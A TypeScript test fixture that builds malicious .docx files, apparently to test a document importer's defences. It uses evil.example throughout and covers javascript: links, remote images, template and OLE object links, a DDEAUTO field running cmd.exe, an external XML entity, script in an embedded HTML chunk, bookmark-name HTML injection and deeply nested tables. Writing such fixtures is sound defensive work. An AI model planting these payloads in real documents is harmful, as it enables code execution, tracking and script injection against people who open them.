import { strToU8, zipSync } from 'fflate';

/** Word files of somebody who means harm. Each has the words おわり; every address is evil.example. */

const AWAY = 'https://evil.example/x';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const TEXT = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

interface Parts {
	/** What stands in the body before おわり. */
	readonly body?: string;
	readonly relationships?: string;
	readonly types?: string;
	readonly prologue?: string;
	readonly files?: Readonly<Record<string, string>>;
}

const docx = ({
	body = '',
	relationships = '',
	types = '',
	prologue = '',
	files = {}
}: Parts): Uint8Array<ArrayBuffer> =>
	new Uint8Array(
		zipSync(
			Object.fromEntries(
				Object.entries({
					'[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="${TEXT}.document.main+xml"/>${types}</Types>`,
					'_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="a" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
					'word/_rels/document.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships">${relationships}</Relationships>`,
					'word/document.xml': `${prologue}<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}<w:p><w:r><w:t>おわり</w:t></w:r></w:p></w:body></w:document>`,
					...files
				}).map(([name, text]) => [name, strToU8(text)])
			)
		)
	);

const words = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`;
const outside = (id: string, type: string, target: string): string =>
	`<Relationship Id="${id}" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`;
const field = (code: string): string =>
	`<w:p><w:fldSimple w:instr='${code}'>${words('欄')}</w:fldSimple></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${words('欄')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

export const HOSTILE_DOCX: readonly (readonly [name: string, file: Uint8Array<ArrayBuffer>])[] = [
	[
		'a link that runs',
		docx({
			relationships: outside('l', 'hyperlink', 'javascript:ran()'),
			body: `<w:p><w:hyperlink r:id="l">${words('ここ')}</w:hyperlink></w:p>`
		})
	],
	[
		'a picture from elsewhere',
		docx({
			relationships: outside('i', 'image', `${AWAY}.png`),
			body: `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="i" r:embed="i"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
		})
	],
	[
		'an old picture from elsewhere',
		docx({
			relationships: outside('i', 'image', `${AWAY}.png`),
			body: `<w:p><w:r><w:pict><v:shape><v:imagedata r:id="i" o:href="${AWAY}.png"/></v:shape></w:pict></w:r></w:p>`
		})
	],
	[
		'an object from elsewhere',
		docx({
			relationships: outside('o', 'oleObject', `${AWAY}.doc!`),
			body: `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>`
		})
	],
	[
		'a page within',
		docx({
			relationships: `<Relationship Id="h" Type="${R}/aFChunk" Target="x.html"/>`,
			body: `<w:altChunk r:id="h"/>`,
			files: { 'word/x.html': `<img src="${AWAY}.png" onerror="ran()"><script>ran()</script>` }
		})
	],
	[
		'a template from elsewhere',
		docx({
			relationships: `<Relationship Id="s" Type="${R}/settings" Target="settings.xml"/>`,
			types: `<Override PartName="/word/settings.xml" ContentType="${TEXT}.settings+xml"/>`,
			files: {
				'word/settings.xml': `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="t"/></w:settings>`,
				'word/_rels/settings.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships">${outside('t', 'attachedTemplate', `${AWAY}.dotm`)}</Relationships>`
			}
		})
	],
	['a command in a field', docx({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') })],
	['a picture in a field', docx({ body: field(`INCLUDEPICTURE "${AWAY}.png" \\d`) })],
	['a text in a field', docx({ body: field(`INCLUDETEXT "${AWAY}.docx"`) })],
	['a link in a field', docx({ body: field('HYPERLINK "javascript:ran()"') })],
	[
		'an entity from elsewhere',
		docx({
			prologue: `<!DOCTYPE w:document [<!ENTITY x SYSTEM "${AWAY}">]>`,
			body: `<w:p>${words('紙')}</w:p>`
		})
	],
	[
		'markup as words',
		docx({ body: `<w:p>${words('&lt;img src=x onerror=ran()&gt;&lt;script src=https://evil.example/x.js&gt;')}</w:p>` })
	],
	[
		'a bookmark that is an element',
		docx({
			body: `<w:p><w:bookmarkStart w:id="1" w:name="&quot;&gt;&lt;img src=x onerror=ran()&gt;"/>${words('しおり')}</w:p>`
		})
	],
	[
		'a table in tables',
		docx({
			body: `${'<w:tbl><w:tr><w:tc>'.repeat(90)}<w:p>${words('底')}</w:p>${'</w:tc></w:tr></w:tbl>'.repeat(90)}`
		})
	]
];
